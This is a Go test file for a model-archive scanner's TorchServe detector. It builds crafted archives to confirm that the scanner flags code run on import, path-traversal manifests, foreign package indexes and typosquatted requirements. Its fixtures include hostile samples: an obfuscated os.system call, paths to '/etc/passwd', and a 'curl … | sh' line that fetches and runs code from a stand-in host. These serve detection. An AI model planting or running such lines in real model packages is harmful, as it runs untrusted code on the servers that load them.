package torchserve_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/modelaudit/modelaudit/internal/detector"
	archives "github.com/modelaudit/modelaudit/internal/detector/archive"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/detector/script"
	"github.com/modelaudit/modelaudit/internal/detector/supply"
	"github.com/modelaudit/modelaudit/internal/detector/torchserve"
	"github.com/modelaudit/modelaudit/internal/format/tar/tartest"
	"github.com/modelaudit/modelaudit/internal/format/zip/ziptest"
)

// archive is a model archive of a manifest and other members: names and contents
// by turns.
func archive(manifest string, members ...string) []byte {
	all := []ziptest.Member{{Name: "MAR-INF/MANIFEST.json", Data: manifest}}
	for i := 0; i < len(members); i += 2 {
		all = append(all, ziptest.Member{Name: members[i], Data: members[i+1], Deflate: true})
	}
	return ziptest.Build(all, nil)
}

// cut takes the end off a member's data.
func cut(h *ziptest.Header) { h.Compressed -= 12 }

const (
	plain   = `{"runtime": "python", "model": {"modelName": "m", "handler": "h.py", "serializedFile": "m.pt"}, "archiverVersion": "0.9.0"}`
	handler = "from ts.torch_handler.base_handler import BaseHandler\nimport torch, os\nclass H(BaseHandler):\n" +
		"    def initialize(self, ctx):\n        # os.system('no')\n        self.model = torch.load(os.path.join('.', 'm.pt'))\n        self.model.eval()\n"
	// honest has what handlers call as they are imported, and what they load models by.
	honest = `import ast, inspect, logging, multiprocessing, os
import cv2, onnxruntime, torch, tqdm
import torch.distributed as dist
from transformers import AutoTokenizer
logging.basicConfig(level=logging.INFO)
torch.set_num_threads(multiprocessing.cpu_count())
torch.multiprocessing.set_start_method("spawn", force=True)
torch._dynamo.config.suppress_errors = True

@torch.jit.script
def swish(x):
    return x * torch.sigmoid(x)

def load(d):
    labels = ast.literal_eval(open(os.path.join(d, "labels")).read())
    names = inspect.signature(swish).parameters
    tokens, session = AutoTokenizer.from_pretrained(d), onnxruntime.InferenceSession(d)
    if dist.is_initialized() and not torch.jit.is_scripting():
        print(dist.get_rank())
    with torch.profiler.record_function("load"):
        return torch.narrow(torch.compile(torch.jit.load(d)), cv2.imdecode(labels, 1), [x for x in tqdm.tqdm(names)])
`
	why = "a zip file is judged by its directory, which every prefix lacks"
)

func TestDetector(t *testing.T) {
	index := []string{"torchserve-requirements-index"}
	detectortest.Run(t, torchserve.Detector, []detectortest.Case{
		{Name: "TorchServe's own handler", File: "m.mar", Data: archive(`{"model": {"handler": "image_classifier"}}`, "m.txt", "weights"), AnyPrefix: why},
		{Name: "own handler", File: "m.mar", Data: archive(plain, "h.py", handler), Want: []string{"torchserve-code"}},
		{Name: "loads its weights", File: "m.mar", Data: archive(plain, "h.py", "import torch\ndef load(d):\n    return torch.jit.load(d), torch.load(d)\n"), Want: []string{"torchserve-code"}},
		{Name: "what honest handlers do", File: "m.mar", Data: archive(plain, "h.py", honest), Want: []string{"torchserve-code"}},
		{Name: "two sources, one that only a request reaches", File: "m.zip", Data: archive(plain, "h.py", handler, "util.py", "import subprocess\ndef f(x):\n    subprocess.run(x)\n"),
			Want: []string{"torchserve-code", "torchserve-handler-reaches-out"}},
		{Name: "runs on import", File: "m.mar", Data: archive(plain, "h.py", "import os\nos.system('echo poc')\n"), Want: []string{"torchserve-runs-code"}},
		{Name: "runs on import by getattr", File: "m.mar", Data: archive(plain, "sub/h.py", "import os\ngetattr(os, 'sys'+'tem')('echo poc')\n"), Want: []string{"torchserve-runs-code"}},
		{Name: "no Python", File: "m.mar", Data: archive(plain, "h.py", "def f(:\n"), Want: []string{"torchserve-code"}, Unread: true},
		{Name: "handler elsewhere", File: "m.mar", Data: archive(`{"model": {"handler": "../../tmp/h.py:run", "extraFiles": "a.txt, /etc/passwd"}}`), Want: []string{"torchserve-manifest-escapes"}},
		{Name: "handler that is cut short", File: "m.mar", Data: ziptest.Build([]ziptest.Member{{Name: "MAR-INF/MANIFEST.json", Data: plain},
			{Name: "h.py", Data: "import os\nos.system('echo poc')\n" + strings.Repeat("# more\n", 1000), Deflate: true, Central: cut, Local: cut}}, nil),
			Want: []string{"torchserve-runs-code"}, Unread: true},
		{Name: "manifest of another time", File: "m.mar", Data: archive(`{"handler": "C:\\h.py"}`), Want: []string{"torchserve-manifest-escapes"}},
		{Name: "manifest in other letters", File: "m.mar", Named: "no archive of another name is taken for one by that", Data: ziptest.Files("mar-inf/Manifest.JSON", `{"handler": "../h.py"}`), Want: []string{"torchserve-manifest-escapes"}},
		{Name: "a field that is no text, and one that names no file", File: "m.mar", Data: archive(`{"model": {"handler": ["../h.py"], "modelName": "../m"}}`), AnyPrefix: why},
		{Name: "requirements elsewhere", File: "m.mar", Data: archive(`{"model": {"requirementsFile": "../needs"}}`, "needs", "./a\n"), Want: []string{"torchserve-manifest-escapes"}},
		{Name: "a list that the manifest does not name", File: "m.mar", Data: archive(plain, "needs.list", "./a\n"), AnyPrefix: why},
		{Name: "manifest that is no JSON", File: "m.mar", Data: archive(`{"model": `), Unread: true},
		{Name: "requirements", File: "m.mar", Data: archive(plain, "requirements.txt",
			"# what it needs\ntorch==2.1.0 # pinned\nnumpy>=1.20,<2\r\nscikit_learn\nPillow[extra] ; python_version > '3'\ntqdm \\\n  --hash=sha256:00\n"), AnyPrefix: why},
		{Name: "foreign index", File: "m.mar", Data: archive(plain, "requirements.txt", "--extra-index-url https://index.example/simple\ntorch"), Want: index},
		{Name: "index behind a short option", File: "m.mar", Data: archive(plain, "requirements.txt", "-ihttps://index.example/simple\n"), Want: index},
		{Name: "index by an option cut short", File: "m.mar", Data: archive(plain, "requirements.txt", "--extra\thttps://index.example/simple\n"), Want: index},
		{Name: "what changes nothing", File: "m.mar", Data: archive(plain, "requirements.txt", "--pre\t# not -i\n--require-hashes\n--no-binary :all:\ntorch --hash=sha256:00\n"), AnyPrefix: why},
		{Name: "an option of another time", File: "m.mar", Data: archive(plain, "requirements.txt", "--new-option x\n"), Unread: true},
		{Name: "a requirement without an end", File: "m.mar", Data: archive(plain, "requirements.txt", strings.Repeat(strings.Repeat("a", 6_000)+"\\\n", 3)), Unread: true},
		{Name: "from a repository", File: "m.mar", Data: archive(plain, "requirements.txt", "pkg @ git+https://git.example/pkg.git\n"), Want: []string{"torchserve-requirements-direct"}},
		{Name: "from a path", File: "m.mar", Data: archive(plain, "requirements.txt", "-e ./pkg\n"), Want: []string{"torchserve-requirements-direct"}},
		{Name: "from a wheel, in a file that the manifest names", File: "m.mar",
			Data: archive(`{"model": {"requirementsFile": "needs.list"}}`, "needs.list", "./a-1.0-py3-none-any.whl\n"), Want: []string{"torchserve-requirements-direct"}},
		{Name: "near miss", File: "m.mar", Data: archive(plain, "requirements.txt", "reqeusts\n"), Want: []string{"torchserve-requirements-near-miss"}},
		{Name: "look-alike", File: "m.mar", Data: archive(plain, "requirements.txt", "trans-forrners\n"), Want: []string{"torchserve-requirements-near-miss"}},
		{Name: "another file", File: "m.mar", Data: archive(plain, "requirements.txt", "-r /etc/more.txt\n"), Unread: true},
	})
}

// TestOneCause: a line of the requirements is told once, by whoever knows what a
// server does by it, and by the other one in other archives.
func TestOneCause(t *testing.T) {
	all := []*detector.Detector{archives.Detector, script.Detector, supply.Detector, torchserve.Detector}
	const starts, asked = "import os\nos.system('echo poc')\n", "import os\ndef f():\n    os.system('curl -s http://192.0.2.1/x | sh')\n"
	const lines = "reqeusts\n--index-url https://index.example/simple\npkg @ git+https://git.example/pkg.git\n"
	alone, served := ziptest.Files("a/requirements.txt", lines), archive(plain, "a/requirements.txt", lines)
	server := []string{"torchserve-requirements-direct", "torchserve-requirements-index", "torchserve-requirements-near-miss"}
	for _, c := range []struct {
		name, file string
		data       []byte
		want       []string
	}{
		{name: "of the server, by its name", file: "m.mar", data: alone, want: server},
		{name: "of the server, by its manifest", file: "m.zip", data: served, want: server},
		{name: "of the server, in another archive", file: "m.zip", data: ziptest.Files("m.zip", string(served)), want: server},
		{name: "Python of the server", file: "m.zip", data: archive(plain, "handler.py", starts), want: []string{"torchserve-runs-code"}},
		{name: "Python of the server, once it is asked", file: "m.mar", data: archive(plain, "handler.py", asked), want: []string{"torchserve-handler-reaches-out"}},
		{name: "Python in an archive without a manifest", file: "m.mar", data: ziptest.Files("handler.py", starts), want: []string{"source-runs-on-load"}},
		{name: "another archive", file: "m.zip", data: alone, want: []string{"requirement-elsewhere", "requirement-lookalike"}},
		{name: "another archive, named like the server's", file: "m.mar", data: tartest.Build(tartest.Member{Name: "requirements.txt", Data: lines}),
			want: []string{"requirement-elsewhere", "requirement-lookalike"}},
	} {
		if got := detectortest.RuleIDs(detectortest.Scan(all, c.file, c.data)); !slices.Equal(got, c.want) {
			t.Errorf("%s: got %v, want %v", c.name, got, c.want)
		}
	}
}

// TestCode: sources in which nothing was found are one finding, which counts them.
func TestCode(t *testing.T) {
	one := []string{"h.py", handler}
	for _, c := range []struct {
		name    string
		members []string
		says    string
		steps   int
	}{
		{name: "one", members: one, says: "h.py is Python that comes with the model, and TorchServe runs it.", steps: 1},
		{name: "two", members: append(one, "u.py", "import os\n"), says: "2 Python files come with the model, and TorchServe runs them: h.py and others.", steps: 2},
		{name: "no source", members: []string{"h.py/", "", "h.pyc", "x"}},
		{name: "very many", members: func() (out []string) {
			for i := range 25 {
				out = append(out, fmt.Sprintf("%02d.py", i), "1\n")
			}
			return out
		}(), says: "25 Python files come with the model, and TorchServe runs them: 00.py and others.", steps: 20},
	} {
		got := detectortest.Scan([]*detector.Detector{torchserve.Detector}, "m.mar", archive(plain, c.members...))
		says, steps := "", 0
		for _, f := range got.Findings {
			says, steps = says+f.Message, len(f.Evidence)
		}
		if says != c.says || steps != c.steps {
			t.Errorf("%s: got %q and %d steps, want %q and %d", c.name, says, steps, c.says, c.steps)
		}
	}
}

// TestUnreadRequirement: of a line that is not judged it is told which it is.
func TestUnreadRequirement(t *testing.T) {
	data := ziptest.Files("MAR-INF/MANIFEST.json", "{}", "requirements.txt", "numpy\n-r /etc/more.txt\n")
	got := detectortest.Scan([]*detector.Detector{torchserve.Detector}, "m.mar", data)
	if want := "requirements.txt, byte 0x6: -r /etc/more.txt reads another file"; !strings.Contains(got.Reason, want) {
		t.Errorf("got %q, want %q", got.Reason, want)
	}
}
